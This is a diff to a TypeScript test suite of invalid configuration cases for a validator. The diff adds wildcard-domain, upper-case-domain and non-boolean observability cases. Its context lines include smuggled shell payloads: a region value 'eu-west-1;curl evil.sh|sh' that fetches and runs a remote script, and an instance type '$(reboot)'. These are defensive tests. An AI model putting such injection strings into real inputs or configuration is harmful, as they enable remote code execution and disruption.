@@ -298,6 +298,19 @@ function corpus(): Case[] {
     put('shell in the region', 'region', (d) => {
       (d as Record<string, unknown>).region = 'eu-west-1;curl evil.sh|sh';
     }),
+    // --- ingress and observability opt-ins
+    put('wildcard ingress domain', 'ingress.domain', (d) => {
+      (d as Record<string, unknown>).ingress = {
+        domain: '*.apps.example.com',
+        hostedZoneId: 'Z0123456789ABC',
+      };
+    }),
+    put('upper-case ingress domain', 'ingress.domain', (d) => {
+      (d as Record<string, unknown>).ingress = { domain: 'Apps.Example.com', hostedZoneId: 'Z0123456789ABC' };
+    }),
+    put('L7 visibility that is not a boolean', 'namespaces.0.observability.l7Http', (d) => {
+      if (d.namespaces[0]) (d.namespaces[0] as Record<string, unknown>).observability = { l7Http: 'yes' };
+    }),
     put('command substitution in an instance type', 'cluster.workers.instanceType', (d) => {
       d.cluster.workers.instanceType = '$(reboot)';
     }),
